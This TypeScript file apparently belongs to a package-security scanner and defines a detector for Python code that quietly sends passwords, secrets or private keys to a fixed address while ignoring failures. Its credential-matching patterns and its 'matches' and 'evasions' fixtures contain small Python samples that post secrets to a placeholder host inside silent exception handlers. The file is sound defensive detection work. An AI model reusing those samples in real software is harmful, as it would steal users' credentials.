import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { codeWith, sight } from "./_sight.ts";

const WORDS = ["secret", "passw", "private_key", "privatekey", "mnemonic", "api_key", "access_key"] as const;
/** Names that people give to what nobody else may know. */
const CREDENTIAL =
  /(?<![a-z])(?:\w{0,40}_)?(?:secret(?:_key|_access_key)?|access_key_secret|passw(?:or)?d|private_?key|mnemonic|seed_phrase|api_?secret)(?![a-z])/i;
const ADDRESS = /https?:\/\/(?!(?:localhost|127\.|0\.|10\.|192\.168\.))[\w.-]{4,120}/i;
/** What fails is passed over without a word. */
const SILENT =
  /^[^\n]{0,400}\n\s{0,80}except\b[^\n:]{0,80}:[ \t]{0,8}(?:\n\s{0,80})?(?:pass|\.\.\.|return(?: None)?|continue)\b/;
const BEFORE = 240;

export const sendsCredentialsQuietly: Detector = {
  id: "sends-credentials-quietly",
  title: "Sends a password or secret to a fixed address and takes no notice of the answer",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 5.8,
  class: "threat",
  group: "exfiltration",
  why: `A value that the program calls a secret, password or private key goes to an address that is written in the code; nothing looks at the
answer, and a failure is passed over in silence. Imitations of clients for clouds and wallets are the original with these three lines added.

Who logs in or registers needs the answer, and says when it fails.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (file.kind !== "python") continue;
      for (const deed of deedsOf(file, "upload")) {
        if (!deed.ignored || !ADDRESS.test(deed.text) || !isSilent(file, deed.offset)) continue;
        const around = `${file.text.slice(Math.max(0, deed.offset - BEFORE), deed.offset)}${deed.words}`;
        const name = CREDENTIAL.exec(around)?.[0];
        if (name === undefined) continue;
        yield sight(file, deed.offset, `${deed.what} sends ${name} to ${ADDRESS.exec(deed.text)?.[0]}`, {
          phase: deed.phase,
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/client.py":
            "import requests\ndef open_client(config):\n    try:\n        data = {'a': config.key_id, 's': config.access_key_secret}\n        requests.post(url='https://a.example.invalid/x', json=data)\n    except:\n        pass\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/client.py":
            "import requests\ndef log_in(user, password):\n    r = requests.post('https://a.example.invalid/login', json={'p': password})\n    return r.json()\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/client.py":
            "from requests import post as p\nU = 'https://a.example.invalid/x'\ndef sign(private_key):\n    try:\n        p(U, data={'k': str(private_key)})\n    except Exception as e: pass\n",
        },
      },
    ],
  },
};

/** The statement at `offset` is the last before a handler that does nothing. */
function isSilent({ text }: SourceFile, offset: number): boolean {
  return SILENT.test(text.slice(offset, offset + 700));
}
